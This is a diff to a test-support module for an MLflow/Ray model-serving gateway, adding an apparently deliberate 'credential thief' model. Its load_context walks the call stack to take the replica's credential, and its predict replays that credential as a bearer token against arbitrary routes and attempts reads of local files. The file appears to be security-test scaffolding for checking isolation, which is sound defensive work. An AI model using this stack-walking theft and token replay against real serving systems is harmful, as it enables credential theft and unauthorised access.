@@ -138,8 +138,13 @@ def log_hostile_version(name: str, kind: str) -> str:
             targets = [str(t) for t in model_input["target"]] if "target" in model_input else []
             return [json.dumps(_attack(kind, [t for t in targets if t]))]
 
-    # _attack is a module-level function: ship this module by value too, so the worker needs
-    # nothing of the tests.
+    return _log_by_value(name, Hostile())
+
+
+def _log_by_value(name: str, model: Any) -> str:
+    """Register ``model`` (a pyfunc taking a ``target`` column) as a version of ``name``.
+    Its functions (``_attack``, ``_steal``) are module-level: this module is shipped by value
+    too, so the worker needs nothing of the tests."""
     import cloudpickle
 
     import tests.support.hostile as me
@@ -150,7 +155,7 @@ def log_hostile_version(name: str, kind: str) -> str:
             warnings.simplefilter("ignore", UserWarning)  # "add type hints": deliberately none
             info = mlflow.pyfunc.log_model(
                 name="model",
-                python_model=Hostile(),
+                python_model=model,
                 registered_model_name=name,
                 signature=ModelSignature(inputs=Schema([ColSpec("string", "target")])),
                 pip_requirements=[f"mlflow=={mlflow.__version__}", "cloudpickle", "pandas"],
@@ -164,3 +169,81 @@ def report_of(answer: Any) -> dict[str, Any]:
     """The attack's report from a scoring answer's JSON."""
     predictions = answer["predictions"]
     return dict(json.loads(predictions[0]))
+
+
+def _steal(source: dict[str, Any] | None, targets: list[str]) -> dict[str, Any]:
+    """What a Ray replica's model does with the credential it found (shipped by value).
+
+    Each target: ``files:<model>:<version>`` (the version-files route), ``<METHOD>:<path>``
+    (any other route, the credential as a bearer token), or ``read:<path>`` (a file of the
+    gateway's machine, read directly). The outcome of each: its status and error code, or
+    ``read`` / the error."""
+    import json
+    import os
+    import urllib.error
+    import urllib.parse
+    import urllib.request
+
+    if source is None:
+        return {"error": "no credential found"}
+    outcomes: dict[str, Any] = {"uid": os.getuid()}
+    for target in targets:
+        kind, _, rest = target.partition(":")
+        if kind == "read":
+            try:
+                with open(rest, "rb") as file:
+                    file.read(16)
+                outcomes[target] = "read"
+            except OSError as exc:
+                outcomes[target] = f"{type(exc).__name__}: {exc}"
+            continue
+        if kind == "files":
+            name, _, version = rest.rpartition(":")
+            query = urllib.parse.urlencode({"name": name, "version": version})
+            kind, rest = "GET", f"/api/2.0/regserve/version-files?{query}"
+        body = b"{}" if kind != "GET" else None
+        request = urllib.request.Request(
+            f"{source['url']}{rest}",
+            data=body,
+            method=kind,
+            headers={
+                "Authorization": f"Bearer {source['credential']}",
+                "Content-Type": "application/json",
+            },
+        )
+        try:
+            with urllib.request.urlopen(request, timeout=30) as answer:
+                answer.read()
+                outcomes[target] = [answer.status, ""]
+        except urllib.error.HTTPError as exc:
+            try:
+                code = json.loads(exc.read()).get("error_code", "")
+            except ValueError:
+                code = ""
+            outcomes[target] = [exc.code, code]
+    return outcomes
+
+
+def log_credential_thief(name: str) -> str:
+    """Register a version of ``name`` whose code, loaded in a Ray replica, takes the replica's
+    version-files credential (from the replica's own arguments, up the loading call's stack)
+    and whose predict uses it against the targets it is given (:func:`_steal`)."""
+
+    class Thief(mlflow.pyfunc.PythonModel):  # defined here so cloudpickle ships it by value
+        def load_context(self, context):  # type: ignore[no-untyped-def]
+            import sys
+
+            self.source = None
+            frame = sys._getframe()
+            while frame is not None:
+                found = frame.f_locals.get("model")
+                if isinstance(found, dict) and "credential" in found:
+                    self.source = dict(found)
+                    break
+                frame = frame.f_back
+
+        def predict(self, context, model_input, params=None):  # type: ignore[no-untyped-def]
+            targets = [str(t) for t in model_input["target"]] if "target" in model_input else []
+            return [json.dumps(_steal(getattr(self, "source", None), targets))]
+
+    return _log_by_value(name, Thief())
